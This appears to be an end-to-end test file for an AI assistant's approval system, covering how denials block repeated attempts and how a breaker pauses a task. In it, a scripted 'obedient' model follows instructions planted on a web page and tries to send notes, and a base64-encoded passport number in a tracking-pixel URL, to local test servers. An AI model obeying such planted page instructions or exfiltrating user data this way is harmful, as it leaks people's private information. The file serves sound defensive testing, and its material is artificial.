/**
 * Issue 18 item 4, from outside: a web page plants instructions, an obedient scripted model follows
 * them, and the person denies. A denial covers the destination and the kind of action (read or
 * write) for the rest of the task — another path, body or verb to the same place gets no card and
 * the model is told plainly it was denied — and, for 24 h, for activations that read outside
 * content; the person's own request still asks. Three denials in a task, or five of the person's in
 * an hour, trip a breaker: the task is paused and the person is told once.
 */
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import type { CardView } from "../../core/channels/card-view.js";
import { startFakeOpenAI, text, toolCall, type FakeOpenAIServer, type RecordedRequest } from "../fakes/openai-server.js";
import { settled, startTestApp, type LocalReply, type TestApp } from "../helpers/app.js";
import { recordingServer } from "../helpers/e2e.js";

type Reply = LocalReply & { card?: CardView };
type Outside = Awaited<ReturnType<typeof recordingServer>>;

const runtimeNote = (r: RecordedRequest): string | null => {
  const last = r.messages.at(-1);
  return last?.role === "system" && typeof last.content === "string" && last.content.startsWith("Runtime:") ? last.content : null;
};
const lastUser = (r: RecordedRequest) => String([...r.messages].reverse().find((m) => m.role === "user")?.content ?? "");
/** Tool results of the current request, oldest first. */
const toolResults = (r: RecordedRequest) => r.messages.filter((m) => m.role === "tool").map((m) => String(m.content));
const lastCall = (r: RecordedRequest) => {
  const call = [...r.messages].reverse().find((m) => m.role === "assistant" && m.tool_calls?.length);
  const fn = call && call.role === "assistant" ? call.tool_calls![0]! : null;
  return fn && fn.type === "function" ? fn.function : null;
};

interface Attempt {
  tool: "http_request" | "http_fetch";
  args: Record<string, unknown>;
}
const post = (url: string, body: string, method = "POST"): Attempt => ({ tool: "http_request", args: { method, url, body } });
const get = (url: string): Attempt => ({ tool: "http_fetch", args: { url } });

describe("denials cover a destination and a kind of action; a breaker pauses the task", () => {
  let model: FakeOpenAIServer | null = null;
  let app: TestApp | null = null;
  let dataDir: string;
  let servers: Outside[] = [];

  beforeEach(() => {
    dataDir = mkdtempSync(join(tmpdir(), "familiar-denials-e2e-"));
  });
  afterEach(async () => {
    await app?.stop();
    app = null;
    await model?.close();
    model = null;
    for (const s of servers) await s.close();
    servers = [];
    rmSync(dataDir, { recursive: true, force: true });
  });

  const outside = async (n: number) => {
    const made = await Promise.all(Array.from({ length: n }, () => recordingServer(() => ({ status: 200, body: "ok", type: "text/plain" }))));
    servers.push(...made);
    return made;
  };
  const start = async () => {
    app = await startTestApp({ DATA_DIR: dataDir, OPENAI_BASE_URL: model!.url, PRIVATE_HOSTS_ALLOWED: servers.map((s) => s.hostPort).join(",") });
    return app;
  };
  const pendingCards = (ms: Reply[]) => ms.filter((m) => (m.buttons?.length ?? 0) > 0);
  const cards = (ms: Reply[]) => ms.filter((m) => m.card !== undefined);
  async function press(user: string, card: Reply, label: string): Promise<void> {
    const button = card.buttons?.find((b) => b.label.startsWith(label));
    expect(button, `a "${label}" button on ${JSON.stringify(card.buttons)}`).toBeDefined();
    expect((await app!.press(user, card.id, button!.id)).status).toBe(202);
  }
  const personId = async (user: string) => (await app!.store.persons.findIdentity("local", user))!.personId;

  /**
   * The obedient model: `read <url>` fetches the page; then it makes the page's attempts one after
   * another — the next after every answer, denial or refusal — repeating a call once approved, and
   * ends with "done" (or "Stopping." when told the task is paused). `CALL <tool> <json>` is the
   * person's own request.
   */
  function obedient(attempts: (page: string) => Attempt[]) {
    return startFakeOpenAI({
      fallback: (r) => {
        const user = lastUser(r);
        const direct = /^CALL (\w+) (.*)$/s.exec(user);
        const note = runtimeNote(r);
        const results = toolResults(r);
        if (direct) {
          if (note && /approved/.test(note)) return toolCall(direct[1]!, direct[2]!);
          return results.length === 0 ? toolCall(direct[1]!, direct[2]!) : text(`result: ${results.at(-1)!.slice(0, 80)}`);
        }
        const page = /^read (\S+)/.exec(user)?.[1];
        if (!page) return text("ok");
        if (note && /approved/.test(note)) {
          const fn = lastCall(r);
          if (fn) return toolCall(fn.name, fn.arguments);
        }
        if (results.some((t) => /approvals_paused|paused/.test(t))) return text("Stopping.");
        const last = results.at(-1);
        if (last !== undefined && /approval_required/.test(last) && !note) return text("I need your OK first.");
        // The calls made so far in this activation (an approved call is repeated, so count each once).
        // (Journal replays may order the arguments differently: compare what they say.)
        const said = (args: Record<string, unknown>) => `${String(args.method ?? "GET")} ${String(args.url)} ${String(args.body ?? "")}`;
        const called = new Set(
          r.messages.flatMap((m) => (m.role === "assistant" && m.tool_calls ? m.tool_calls.map((c) => (c.type === "function" ? said(JSON.parse(c.function.arguments) as Record<string, unknown>) : "")) : [])),
        );
        if (!called.has(said({ url: page }))) return toolCall("http_fetch", { url: page });
        const next = attempts(page).find((a) => !called.has(said(a.args)));
        return next ? toolCall(next.tool, next.args) : text("done");
      },
    });
  }

  it("after a Deny, other paths, bodies and write verbs to the same place get no card and the model is told it was denied", async () => {
    const [a, b, pages] = await outside(3);
    const d = Buffer.from("Ana's passport number is X1234567").toString("base64");
    model = await obedient(() => [
      post(`${a!.url}/collect`, "notes 1"),
      post(`${a!.url}/other/path?try=2`, "notes 2 — reworded"),
      post(`${a!.url}/c3`, "notes 3", "PUT"),
      get(`${a!.url}/pixel.gif?d=${d}`),
      get(`${a!.url}/again?d=${d}`),
      post(`${b!.url}/inbox`, "notes 4"),
    ]);
    await start();
    await app!.say("ana", `read ${pages!.url}/deals`);
    let ms = (await app!.repliesUntil("ana", (x) => pendingCards(x).length === 1)) as Reply[];
    await press("ana", pendingCards(ms)[0]!, "Approve once"); // the page itself
    ms = (await app!.repliesUntil("ana", (x) => pendingCards(x).length === 1 && cards(x).length === 2));
    expect(pendingCards(ms)[0]!.text).toContain(`${a!.hostPort}/collect`);
    await press("ana", pendingCards(ms)[0]!, "Deny");
    // The two writes to the same place are refused without a card; the read (another kind) asks.
    ms = (await app!.repliesUntil("ana", (x) => pendingCards(x).length === 1 && cards(x).length === 3, 30_000));
    const readCard = pendingCards(ms)[0]!;
    expect(readCard.card!.fields.find((f) => f.label === "Destination")!.value).toContain("/pixel.gif");
    // Item 5 on the same card: the query's base64 is shown decoded.
    expect(readCard.text).toContain("Ana's passport number is X1234567");
    await press("ana", readCard, "Deny");
    // The second read of the same place: no card; the next place asks.
    ms = (await app!.repliesUntil("ana", (x) => pendingCards(x).length === 1 && cards(x).length === 4, 30_000));
    expect(pendingCards(ms)[0]!.text).toContain(`${b!.hostPort}/inbox`);
    await press("ana", pendingCards(ms)[0]!, "Approve once");
    await app!.repliesUntil("ana", (x) => x.some((m) => m.text === "done"), 30_000);
    expect(a!.received).toEqual([]);
    expect(b!.received).toEqual([{ method: "POST", path: "/inbox" }]);

    // What the model read for each refused retry: plainly denied, naming the place, nothing ran.
    const refusals = model.requests.flatMap(toolResults).filter((t) => /"error":"denied"/.test(t));
    const distinct = [...new Set(refusals)];
    expect(distinct.length).toBe(2); // one text per covering denial: the POST, then the read
    for (const t of distinct) {
      expect(t).toMatch(/denied/i);
      expect(t).toContain(a!.hostPort);
      expect(t).toMatch(/did not run/);
    }
    const audit = await app!.store.audit.listAudit(await personId("ana"), { kinds: ["approval.denied_again"] });
    expect(audit.items.length).toBe(3);
  }, 120_000);

  it("for 24 h a denial holds for activations that read outside content, while the person's own request still asks", async () => {
    const [a, pages] = await outside(2);
    model = await obedient(() => [post(`${a!.url}/collect`, "notes")]);
    await start();
    await app!.say("ana", `read ${pages!.url}/deals`);
    let ms = (await app!.repliesUntil("ana", (x) => pendingCards(x).length === 1)) as Reply[];
    await press("ana", pendingCards(ms)[0]!, "Always"); // reads of the page server, from the person's own request
    ms = (await app!.repliesUntil("ana", (x) => pendingCards(x).length === 1 && cards(x).length === 2));
    await press("ana", pendingCards(ms)[0]!, "Deny");
    await app!.repliesUntil("ana", (x) => x.some((m) => m.text === "done"), 30_000);

    // A new task (a new message) reads the page again: the same POST is refused without a card.
    await app!.say("ana", `read ${pages!.url}/deals?again`);
    ms = (await app!.repliesUntil("ana", (x) => x.filter((m) => m.text === "done").length === 2, 30_000));
    expect(cards(ms)).toHaveLength(2);
    const last = model.requests.at(-1)!;
    expect(toolResults(last).at(-1)).toMatch(/denied .*in the last 24 hours/);

    // The person asks for it themself (nothing outside read): a card, they may have changed their mind.
    await app!.say("ana", `CALL http_request ${JSON.stringify({ method: "POST", url: `${a!.url}/collect`, body: "my notes" })}`);
    ms = (await app!.repliesUntil("ana", (x) => pendingCards(x).length === 1 && cards(x).length === 3, 30_000));
    expect(pendingCards(ms)[0]!.text).toContain(`${a!.hostPort}/collect`);
    expect(a!.received).toEqual([]);
  }, 120_000);

  it("three denials in one task pause it: no further card, nothing runs, the person is told once", async () => {
    const targets = await outside(5);
    const pages = targets.pop()!;
    model = await obedient(() => targets.map((t, i) => post(`${t.url}/c${i}`, `notes ${i}`)));
    await start();
    await app!.say("ana", `read ${pages.url}/deals`);
    let ms = (await app!.repliesUntil("ana", (x) => pendingCards(x).length === 1)) as Reply[];
    await press("ana", pendingCards(ms)[0]!, "Approve once");
    for (let i = 0; i < 3; i++) {
      ms = (await app!.repliesUntil("ana", (x) => pendingCards(x).length === 1 && cards(x).length === i + 2, 30_000));
      await press("ana", pendingCards(ms)[0]!, "Deny");
    }
    ms = (await app!.repliesUntil("ana", (x) => (x as Reply[]).some((m) => /paused/.test(m.text) && !m.card), 30_000));
    const requestsAtPause = model.requests.length;
    // Nothing more is due or running: had the paused task gone on, it would have by now.
    await settled(app!);
    ms = (await app!.repliesUntil("ana", () => true));
    const told = ms.filter((m) => !m.card && /paused/.test(m.text));
    expect(told).toHaveLength(1);
    expect(told[0]!.text).toMatch(/3 requests/);
    expect(cards(ms)).toHaveLength(4);
    expect(pendingCards(ms)).toHaveLength(0);
    for (const t of targets) expect(t.received).toEqual([]);
    // Paused: the model is not asked to go on with that task.
    expect(model.requests.length).toBe(requestsAtPause);
    const pid = await personId("ana");
    expect((await app!.store.audit.listAudit(pid, { kinds: ["task.paused"] })).items).toHaveLength(1);
  }, 120_000);

  it("five of the person's denials within an hour, across tasks, trip the breaker: told once, later outside-driven asks get no card", async () => {
    const targets = await outside(7);
    const pages = targets.pop()!;
    // Page n asks to send to target n.
    model = await obedient((page) => {
      const n = Number(/p(\d+)$/.exec(page)?.[1] ?? 0);
      return [post(`${targets[n]!.url}/c`, `notes ${n}`)];
    });
    await start();
    let shown = 0;
    for (let n = 0; n < 5; n++) {
      await app!.say("ana", `read ${pages.url}/p${n}`);
      let ms = (await app!.repliesUntil("ana", (x) => pendingCards(x).length === 1, 30_000)) as Reply[];
      if (n === 0) {
        await press("ana", pendingCards(ms)[0]!, "Always"); // reads of the page server
        ms = (await app!.repliesUntil("ana", (x) => pendingCards(x).length === 1 && cards(x).length === 2, 30_000));
      }
      shown = cards(ms).length;
      await press("ana", pendingCards(ms)[0]!, "Deny");
      await app!.repliesUntil("ana", (x) => pendingCards(x).length === 0, 30_000);
      // The denied task has heard of the denial and finished before the next page is read.
      await settled(app!);
    }
    let ms = (await app!.repliesUntil("ana", (x) => (x as Reply[]).some((m) => !m.card && /paused/.test(m.text)), 30_000)) as Reply[];
    expect(ms.filter((m) => !m.card && /paused/.test(m.text))[0]!.text).toMatch(/5 requests/);
    // A sixth task driven by a page: its POST gets no card.
    await app!.say("ana", `read ${pages.url}/p5`);
    // The sixth task has run (and asked nothing) once the loops are quiet.
    await settled(app!);
    ms = (await app!.repliesUntil("ana", () => true));
    expect(cards(ms)).toHaveLength(shown);
    expect(ms.filter((m) => !m.card && /paused/.test(m.text))).toHaveLength(1);
    // The person's own request still asks.
    await app!.say("ana", `CALL http_request ${JSON.stringify({ method: "POST", url: `${targets[5]!.url}/mine`, body: "mine" })}`);
    ms = (await app!.repliesUntil("ana", (x) => pendingCards(x).length === 1, 30_000));
    expect(pendingCards(ms)[0]!.text).toContain("/mine");
    for (const t of targets) expect(t.received).toEqual([]);
  }, 180_000);
});
